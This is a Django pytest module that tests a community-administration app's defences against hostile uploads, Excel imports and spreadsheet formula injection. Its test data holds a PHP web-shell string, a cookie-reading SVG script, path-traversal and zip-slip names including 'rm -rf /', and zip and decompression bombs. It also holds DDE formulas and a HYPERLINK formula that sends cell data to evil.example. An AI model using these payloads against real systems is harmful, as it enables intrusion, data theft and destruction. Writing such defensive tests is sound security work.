"""Upload attacks, posted through the real views as the person who would upload: refused with a
message at the field and nothing stored, or (a PNG with a ZIP appended) neutralised by re-encoding.

The multipart bodies are built by hand so that a file name reaches the server exactly as an
attacker would send it (Django's test client would strip ``../`` before sending).
"""

import base64
import functools
import io
import secrets
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from django.conf import settings as django_settings
from django.test import TestCase
from django.urls import reverse
from django.utils import translation
from PIL import Image, ImageDraw

from events.models import Event, EventPhoto
from incidents.models import Incident, IncidentImport
from inspections import services as inspection_services
from inspections.models import Photo, RectificationNotice, Result
from rentals.models import PermitAttachment, RentalDeclaration, ResidencePermit
from residents.models import ImportJob, Person, VenueKind
from tests.factories import VenueFactory, resident_id
from tests.routes_notices import notice_in

XHR = {"HTTP_X_REQUESTED_WITH": "XMLHttpRequest"}


@pytest.fixture
def as_user(as_user_en):
    """The personas' clients with pages in English: messages are matched by their msgid."""
    return as_user_en


# --- the attacks -----------------------------------------------------------------------------


def png(size=(64, 48), colour=(10, 120, 200)) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, colour).save(buf, format="PNG")
    return buf.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_declaring(width: int, height: int) -> bytes:
    """A few hundred bytes claiming ``width`` × ``height`` pixels: a decompression bomb's header."""
    ihdr = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    idat = zlib.compress(b"\0" * 4096, 9)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", idat) + _chunk(b"IEND", b"")


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="64" height="48">'
    b'<script type="text/javascript">alert(document.cookie)</script><rect width="64" height="48"/></svg>'
)
ZIP_TAIL = b"PK\x03\x04" + b"\x14\x00" * 20 + b"shell.php<?php system($_GET['c']); ?>"
FIFTY_MB = 50 * 1024 * 1024


@dataclass(frozen=True)
class Attack:
    name: str
    filename: str
    data: Callable[[], bytes]
    message: str  # the English msgid (or the part of it that does not vary) shown at the field


ATTACKS = [
    Attack("text renamed .jpg", "hazard.jpg", lambda: b"this is not a photo\n" * 50, "This file is not a photo"),
    Attack("SVG with a script", "hazard.svg", lambda: SVG, "This file is not a photo"),
    Attack("SVG with a script renamed .jpg", "hazard.jpg", lambda: SVG, "This file is not a photo"),
    Attack(
        "decompression bomb 30000x30000", "bomb.png", lambda: png_declaring(30000, 30000), "more than 40 megapixels"
    ),
    Attack("64 MP under Pillow's own limit", "big.png", lambda: png_declaring(8000, 8000), "more than 40 megapixels"),
    Attack("50 MB file", "huge.jpg", lambda: png() + b"\0" * FIFTY_MB, "The photo is larger than"),
]
SAFE_NAMES = ["../../etc/passwd.png", "..\\..\\evil.png", "/etc/cron.d/x.png", "C:\\Windows\\evil.png"]


def multipart(fields: dict, files: list[tuple[str, str, bytes]]) -> tuple[bytes, str]:
    """A multipart body with file names exactly as given (``files``: field, file name, bytes)."""
    boundary = "fq" + secrets.token_hex(12)
    parts = []
    for key, values in fields.items():
        for value in values if isinstance(values, list) else [values]:
            head = f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"\r\n\r\n'
            parts.append(head.encode() + str(value).encode() + b"\r\n")
    for key, name, data in files:
        head = (
            f'--{boundary}\r\nContent-Disposition: form-data; name="{key}"; filename="{name}"\r\n'
            "Content-Type: application/octet-stream\r\n\r\n"
        )
        parts.append(head.encode() + data + b"\r\n")
    parts.append(f"--{boundary}--\r\n".encode())
    return b"".join(parts), f"multipart/form-data; boundary={boundary}"


def media_files() -> set[Path]:
    root = Path(django_settings.MEDIA_ROOT)
    return {p for p in root.rglob("*") if p.is_file()} if root.exists() else set()


# --- where photos are uploaded ----------------------------------------------------------------


@dataclass
class Target:
    """One upload form: who posts, where, with which other fields, and what a stored upload leaves."""

    persona: str
    url: str
    fields: dict
    file_field: str
    rows: Callable[[], int]
    refused_status: int = 200
    headers: dict | None = None


def _inspection_photo(world):
    venue = VenueFactory(building=world.building("甲一网格"), kind=VenueKind.SHOP)
    inspection = inspection_services.inspection_start(user=world.users["officer_a"], venue=venue)
    item = inspection.template.items.order_by("order").first()
    inspection_services.answer_save(inspection=inspection, item=item, result=Result.FAIL, note="电线私拉乱接")
    return Target(
        "officer_a", reverse("inspections:photo", args=[inspection.pk, item.pk]), {}, "photo",
        lambda: Photo.objects.count(), headers=XHR,
    )  # fmt: skip


def _event_report(world):
    b = world.building("甲一网格")
    fields = {"category": "facility", "description": "路灯不亮", "lat": b.lat, "lng": b.lng}
    return Target(
        "volunteer", reverse("events:report"), fields, "photos",
        lambda: Event.objects.count() + EventPhoto.objects.count(),
    )  # fmt: skip


def _event_api(world):
    b = world.building("甲一网格")
    fields = {"category": "facility", "description": "路灯不亮", "lat": b.lat, "lng": b.lng}
    return Target(
        "volunteer", reverse("event-list"), fields, "photos",
        lambda: Event.objects.count() + EventPhoto.objects.count(), refused_status=400,
    )  # fmt: skip


def _permit(field):
    def target(world):
        fields = {
            "name": "李小红", "id_number": resident_id(911), "phone": "13912345678",
            "house": world.house("甲一网格").qr_token, "basis": "work", "basis_detail": "阅海小学",
        }  # fmt: skip
        return Target(
            "anonymous", reverse("permits:apply"), fields, field,
            lambda: ResidencePermit.objects.count() + PermitAttachment.objects.count(),
        )  # fmt: skip

    return target


def _notice_fixed(world):
    notice = notice_in(world)
    hazard = notice.hazards.order_by("id").first()
    return Target(
        "anonymous", reverse("notices:public_fixed", args=[notice.token, hazard.pk]), {"note": "已更换"}, "photos",
        lambda: Photo.objects.filter(hazard_fix__isnull=False).count(),
    )  # fmt: skip


TARGETS = {
    "inspection photo": _inspection_photo,
    "event report": _event_report,
    "event report API": _event_api,
    "permit photo": _permit("photo"),
    "permit attachment": _permit("attachments"),
    "notice fixed photo": _notice_fixed,
}


def post(as_user, target: Target, filename: str, data: bytes):
    body, content_type = multipart(target.fields, [(target.file_field, filename, data)])
    return as_user(target.persona).post(target.url, body, content_type=content_type, **(target.headers or {}))


@pytest.mark.parametrize("where", TARGETS)
@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
def test_an_attack_is_refused_with_a_message_and_nothing_stored(world, as_user, where, attack):
    target = TARGETS[where](world)
    rows, files = target.rows(), media_files()
    response = post(as_user, target, attack.filename, attack.data())
    assert response.status_code == target.refused_status
    assert attack.message in response.content.decode()
    if target.refused_status == 400:
        assert target.file_field in response.json()
    assert target.rows() == rows
    assert media_files() == files


@pytest.mark.parametrize("where", TARGETS)
def test_a_png_with_a_zip_appended_is_stored_re_encoded_without_it(world, as_user, where):
    target = TARGETS[where](world)
    before = media_files()
    response = post(as_user, target, "polyglot.png", png() + ZIP_TAIL)
    assert response.status_code in (200, 201, 302)
    assert target.rows() > 0
    new = media_files() - before
    assert new and all(p.suffix == ".jpg" for p in new)
    for p in new:
        stored = p.read_bytes()
        assert stored[:2] == b"\xff\xd8" and b"PK\x03\x04" not in stored and b"<?php" not in stored


@pytest.mark.parametrize("where", TARGETS)
@pytest.mark.parametrize("name", SAFE_NAMES)
def test_a_file_name_with_path_separators_is_stored_under_media_root_with_a_safe_name(world, as_user, where, name):
    target = TARGETS[where](world)
    root = Path(django_settings.MEDIA_ROOT).resolve()
    before = media_files()
    response = post(as_user, target, name, png())
    assert response.status_code in (200, 201, 302)
    new = media_files() - before
    assert new
    for p in new:
        rel = p.resolve().relative_to(root)  # raises if the file landed outside MEDIA_ROOT
        assert not {"..", "etc", "Windows", "cron.d"} & set(rel.parts)
        assert "\\" not in p.name and ":" not in p.name
    # Nothing escaped the media folder either.
    assert not (root.parent / "etc").exists() and not list(root.parent.glob("*evil*"))


# --- signatures (the signature pad posts a PNG data URL) ----------------------------------------


def _data_url(data: bytes, kind="image/png") -> str:
    return f"data:{kind};base64," + base64.b64encode(data).decode()


def _signature_png() -> bytes:
    im = Image.new("RGBA", (600, 200), (255, 255, 255, 0))
    ImageDraw.Draw(im).line([(30, 150), (120, 40), (200, 160), (450, 60)], fill=(0, 0, 0, 255), width=6)
    buf = io.BytesIO()
    im.save(buf, format="PNG")
    return buf.getvalue()


SIGNATURE_ATTACKS = {
    "svg with a script": _data_url(SVG, "image/svg+xml"),
    "svg declared as png": _data_url(SVG),
    "text": _data_url(b"not a signature"),
    "decompression bomb": _data_url(png_declaring(30000, 30000)),
    "javascript url": "javascript:alert(1)",
    "too large": _data_url(b"\x89PNG" + b"\0" * 1_000_000),
}


@pytest.mark.parametrize("attack", SIGNATURE_ATTACKS)
def test_a_forged_signature_on_a_notice_is_refused_and_nothing_stored(world, as_user, attack):
    notice = notice_in(world)
    files = media_files()
    response = as_user("officer_a").post(
        reverse("notices:sign", args=[notice.pk]), {"signer_name": "马师傅", "signature": SIGNATURE_ATTACKS[attack]}
    )
    body = response.content.decode()
    assert response.status_code == 200
    assert "The signature could not be read" in body or "The signature is too large" in body
    assert 'value="马师傅"' in body
    notice.refresh_from_db()
    assert not notice.signature and not notice.signed_pdf and media_files() == files


def test_a_signature_with_a_zip_appended_is_stored_re_encoded(world, as_user, django_capture_on_commit_callbacks):
    notice = notice_in(world)
    with django_capture_on_commit_callbacks(execute=True):
        response = as_user("officer_a").post(
            reverse("notices:sign", args=[notice.pk]),
            {"signer_name": "马师傅", "signature": _data_url(_signature_png() + ZIP_TAIL)},
        )
    assert response.status_code == 302
    notice = RectificationNotice.objects.get(pk=notice.pk)
    stored = notice.signature.read()
    assert stored[:8] == b"\x89PNG\r\n\x1a\n" and b"PK\x03\x04" not in stored and b"<?php" not in stored


# --- Excel imports ----------------------------------------------------------------------------


@functools.cache
def xlsx_bomb(inflated: int = 200 * 1024 * 1024) -> bytes:
    """A workbook of a few hundred kB whose sheet XML inflates to ``inflated`` bytes (blank rows)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        )
        z.writestr(
            "_rels/.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Target="xl/workbook.xml" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
            "</Relationships>",
        )
        z.writestr(
            "xl/workbook.xml",
            '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
            '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>',
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Target="worksheets/sheet1.xml" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/></Relationships>',
        )
        with z.open("xl/worksheets/sheet1.xml", "w") as sheet:
            sheet.write(
                b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>'
            )
            chunk = b"<row/>" * (1024 * 1024 // 6)
            for _ in range(inflated // len(chunk)):
                sheet.write(chunk)
            sheet.write(b"</sheetData></worksheet>")
    return buf.getvalue()


@dataclass
class ImportTarget:
    persona: str
    url: str
    fields: dict
    file_field: str
    rows: Callable[[], int]
    message_in: Callable  # the response → the text where the message is shown


def _ledger_import(world):
    return ImportTarget(
        "officer_a", reverse("ledgers:import"), {"kind": "persons"}, "persons-file",
        lambda: Person.objects.count() + ImportJob.objects.count(), lambda r: r.content.decode(),
    )  # fmt: skip


def _incident_import(world):
    return ImportTarget(
        "officer_a", reverse("incidents:import"), {}, "file",
        lambda: Incident.objects.count() + IncidentImport.objects.count(), lambda r: r.content.decode(),
    )  # fmt: skip


def _tenants_import(world):
    return ImportTarget(
        "landlord", reverse("rentals:declare"),
        {"house": world.house("甲一网格").qr_token, "rental_type": "long"}, "tenants_file",
        lambda: RentalDeclaration.objects.count(), lambda r: r.content.decode(),
    )  # fmt: skip


IMPORTS = {"person ledger": _ledger_import, "incidents": _incident_import, "tenants": _tenants_import}
EXCEL_ATTACKS = {
    "text renamed .xlsx": (b"name,id\nx,y\n" * 20, ("not an Excel workbook", "cannot be read")),
    "zip bomb .xlsx": (None, ("too large when unpacked",)),
    "zip that is no workbook": (None, ("not an Excel workbook", "cannot be read", "damaged")),
}


def _excel_attack(name: str) -> bytes:
    if name == "zip bomb .xlsx":
        return xlsx_bomb()
    if name == "zip that is no workbook":
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr("../../evil.sh", "rm -rf /")
        return buf.getvalue()
    return EXCEL_ATTACKS[name][0]


@pytest.mark.parametrize("where", IMPORTS)
@pytest.mark.parametrize("attack", EXCEL_ATTACKS)
def test_an_excel_attack_is_refused_with_a_message_and_nothing_stored(world, as_user, where, attack):
    target = IMPORTS[where](world)
    data = _excel_attack(attack)
    assert len(data) < 2 * 1024 * 1024  # small on disk, whatever it claims to unpack to
    rows, files = target.rows(), media_files()
    body, content_type = multipart(target.fields, [(target.file_field, "upload.xlsx", data)])
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = as_user(target.persona).post(target.url, body, content_type=content_type)
    assert response.status_code == 200
    shown = target.message_in(response)
    assert any(m in shown for m in EXCEL_ATTACKS[attack][1]), shown[:3000]
    assert target.rows() == rows
    assert media_files() == files


def test_the_zip_bomb_is_refused_before_it_is_inflated():
    from documents import excel

    data = xlsx_bomb()
    with translation.override("en"), pytest.raises(excel.ExcelError, match="too large when unpacked"):
        excel.check_upload(io.BytesIO(data))


# --- formula injection on export ----------------------------------------------------------------


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]


def test_exported_cells_that_start_like_a_formula_stay_text_and_are_quote_prefixed():
    from openpyxl import load_workbook

    from documents import excel

    out = io.BytesIO()
    columns = [excel.Column("姓名"), excel.Column("备注")]
    excel.write_table(out, title="台账", columns=columns, rows=[[v, "普通"] for v in INJECTIONS] + [[-5, "负数"]])
    raw = zipfile.ZipFile(io.BytesIO(out.getvalue())).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in raw  # no formula anywhere in the sheet
    ws = load_workbook(io.BytesIO(out.getvalue())).active
    cells = [ws.cell(row=3 + i, column=1) for i in range(len(INJECTIONS))]
    assert [c.value for c in cells] == INJECTIONS  # the data itself is unchanged
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)  # Excel keeps it text even when edited
    number = ws.cell(row=3 + len(INJECTIONS), column=1)
    assert number.value == -5 and number.data_type == "n" and not number.quotePrefix


def test_an_exported_ledger_keeps_a_formula_typed_into_a_name_as_text(world, as_user):
    from openpyxl import load_workbook

    person = world.person("甲一网格")
    person.name = "=cmd|' /C calc'!A0"
    person.save(update_fields=["name"])
    response = as_user("officer_a").get(reverse("ledgers:persons_export"))
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    raw = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in raw
    ws = load_workbook(io.BytesIO(data)).active
    [cell] = [c for row in ws.iter_rows() for c in row if c.value == person.name]
    assert cell.data_type == "s" and cell.quotePrefix


# --- the request size ---------------------------------------------------------------------------


@pytest.mark.parametrize("encoding", ["multipart", "urlencoded"])
def test_form_fields_larger_than_the_memory_limit_get_a_400_page_with_a_message(world, as_user, encoding):
    """Django refuses form fields over DATA_UPLOAD_MAX_MEMORY_SIZE (a signature data URL, a pasted
    text); the page says so instead of Django's bare 'Bad Request'."""
    description = "x" * (django_settings.DATA_UPLOAD_MAX_MEMORY_SIZE + 10)
    if encoding == "multipart":
        body, content_type = multipart({"description": description}, [])
    else:
        body, content_type = f"description={description}", "application/x-www-form-urlencoded"
    response = as_user("volunteer").post(reverse("events:report"), body, content_type=content_type)
    assert response.status_code == 400
    assert "too large or arrived damaged" in response.content.decode()
    assert not Event.objects.exists()


def test_the_deployment_notes_set_nginx_client_max_body_size():
    readme = (Path(django_settings.BASE_DIR) / "README.md").read_text()
    assert "client_max_body_size" in readme
